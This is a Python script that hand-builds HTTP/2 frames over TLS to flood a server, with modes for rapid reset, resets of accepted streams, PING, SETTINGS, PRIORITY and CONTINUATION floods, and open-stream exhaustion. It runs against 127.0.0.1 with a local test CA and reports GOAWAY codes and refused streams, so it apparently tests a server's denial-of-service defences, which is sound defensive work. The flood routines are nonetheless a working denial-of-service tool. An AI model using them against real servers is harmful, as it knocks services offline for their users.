# HTTP/2 floods by hand: raw frames over TLS, written as fast as the socket takes them while
# everything the server sends is read (so its answers never stop it reading).
#
#   h2_flood.py MODE PORT SNI CLIENT COUNT
#
# MODE rapid-reset: a new stream's HEADERS then its RST_STREAM, COUNT times
#      reset-accepted: rounds of 50 requests for /drip, waiting for their response heads (the
#                 server accepted them and the upstream answers), then RST_STREAM for all 50,
#                 up to COUNT resets
#      ping, settings, priority: COUNT such frames
#      continuation: one HEADERS without END_HEADERS, then COUNT CONTINUATION frames
#      streams: COUNT requests for /slow on as many streams, left open
#      server-reset: COUNT streams each declaring one body byte and sending two, which the
#                 server answers by resetting the stream (PROTOCOL_ERROR)
# Prints JSON: {"written": all COUNT frames written, "closed": the server closed the connection,
# "goaway": its GOAWAY error code or null, "refused": streams reset with REFUSED_STREAM,
# "max_concurrent_streams": the server's SETTINGS value}. Gives up after 30 s.
import json, select, socket, ssl, sys, time

mode, port, sni, client, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
ctx = ssl.create_default_context(cafile="data/ca/ca.pem")
ctx.check_hostname = False
ctx.load_cert_chain(client + ".chain.pem", client + ".key")
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=20), server_hostname=sni)
assert s.selected_alpn_protocol() == "h2"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request_block(path):
    # :method GET, :scheme https, :path (literal, not indexed), :authority (literal)
    p, a = path.encode(), sni.encode()
    return b"\x82\x87" + b"\x04" + bytes([len(p)]) + p + b"\x01" + bytes([len(a)]) + a


def frames():
    if mode == "rapid-reset":
        for i in range(count):
            sid = 1 + 2 * i
            yield frame(0x1, 0x5, sid, request_block("/reset"))
            yield frame(0x3, 0x0, sid, (8).to_bytes(4, "big"))
    elif mode == "ping":
        for i in range(count):
            yield frame(0x6, 0x0, 0, i.to_bytes(8, "big"))
    elif mode == "settings":
        for _ in range(count):
            yield frame(0x4, 0x0, 0, b"")
    elif mode == "priority":
        for i in range(count):
            yield frame(0x2, 0x0, 1 + 2 * i, b"\x00\x00\x00\x00\x10")
    elif mode == "continuation":
        yield frame(0x1, 0x1, 1, request_block("/cont"))
        for _ in range(count):
            yield frame(0x9, 0x0, 1, b"\x40\x01x\x01y")
    elif mode == "streams":
        for i in range(count):
            yield frame(0x1, 0x5, 1 + 2 * i, request_block("/slow"))
    elif mode == "server-reset":
        for i in range(count):
            sid = 1 + 2 * i
            # content-length: 1 (literal, indexed name 28), then two bytes of DATA.
            block = b"\x83\x87" + b"\x04\x02/r" + b"\x01" + bytes([len(sni)]) + sni.encode() + b"\x0f\x0d\x011"
            yield frame(0x1, 0x4, sid, block)
            yield frame(0x0, 0x1, sid, b"xx")


def reset_accepted():
    """Resets streams the server has accepted (h2's pending-accept limit does not see them)."""
    result = {"written": False, "closed": False, "goaway": None, "refused": 0, "max_concurrent_streams": None}
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
    buf = bytearray()
    sid = 1
    try:
        for r in range(count // 50):
            ids = list(range(sid, sid + 100, 2))
            sid += 100
            s.sendall(b"".join(frame(0x1, 0x5, i, request_block("/drip")) for i in ids))
            answered = set()
            while len(answered) < len(ids):
                data = s.recv(1 << 16)
                if not data:
                    raise ConnectionError("closed")
                buf.extend(data)
                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                    length = int.from_bytes(buf[:3], "big")
                    kind, flags, stream = buf[3], buf[4], int.from_bytes(buf[5:9], "big")
                    payload = bytes(buf[9:9 + length])
                    del buf[:9 + length]
                    if kind == 0x4 and not flags & 1:
                        s.sendall(frame(0x4, 0x1, 0))
                    elif kind == 0x1:
                        answered.add(stream)
                    elif kind == 0x7:
                        result["goaway"] = int.from_bytes(payload[4:8], "big")
            s.sendall(b"".join(frame(0x3, 0, i, (8).to_bytes(4, "big")) for i in ids))
        result["written"] = True
        s.settimeout(3)
        while s.recv(1 << 16):
            pass
    except socket.timeout:
        pass
    except (ConnectionError, ssl.SSLError, OSError):
        result["closed"] = True
    print(json.dumps(result))
    sys.exit(0)


if mode == "reset-accepted":
    reset_accepted()

out = bytearray(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))
source = frames()
exhausted = False
inbuf = bytearray()
result = {"written": False, "closed": False, "goaway": None, "refused": 0, "max_concurrent_streams": None}
s.setblocking(False)
deadline = time.monotonic() + 30
quiet_since = None


def parse():
    while len(inbuf) >= 9:
        length = int.from_bytes(inbuf[:3], "big")
        if len(inbuf) < 9 + length:
            return
        kind, flags = inbuf[3], inbuf[4]
        payload = bytes(inbuf[9:9 + length])
        del inbuf[:9 + length]
        if kind == 0x4 and not flags & 1:
            for j in range(0, len(payload), 6):
                if int.from_bytes(payload[j:j + 2], "big") == 0x3:
                    result["max_concurrent_streams"] = int.from_bytes(payload[j + 2:j + 6], "big")
            out.extend(frame(0x4, 0x1, 0))
        elif kind == 0x7:
            result["goaway"] = int.from_bytes(payload[4:8], "big")
        elif kind == 0x3 and int.from_bytes(payload[:4], "big") == 7:
            result["refused"] += 1


while time.monotonic() < deadline:
    while not exhausted and len(out) < 1 << 16:
        try:
            out.extend(next(source))
        except StopIteration:
            exhausted = True
    readable, writable, _ = select.select([s], [s] if out else [], [], 1.0)
    try:
        if readable or s.pending():
            data = s.recv(1 << 16)
            if not data:
                result["closed"] = True
                break
            inbuf.extend(data)
            parse()
        if writable and out:
            n = s.send(bytes(out[:1 << 14]))
            del out[:n]
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        pass
    except (ConnectionError, ssl.SSLError, OSError):
        result["closed"] = True
        break
    if exhausted and not out:
        result["written"] = True
        # Everything is written: wait (at most 3 s of silence) for the server's answers.
        if readable:
            quiet_since = None
        elif quiet_since is None:
            quiet_since = time.monotonic()
        elif time.monotonic() - quiet_since > 3:
            break
print(json.dumps(result))
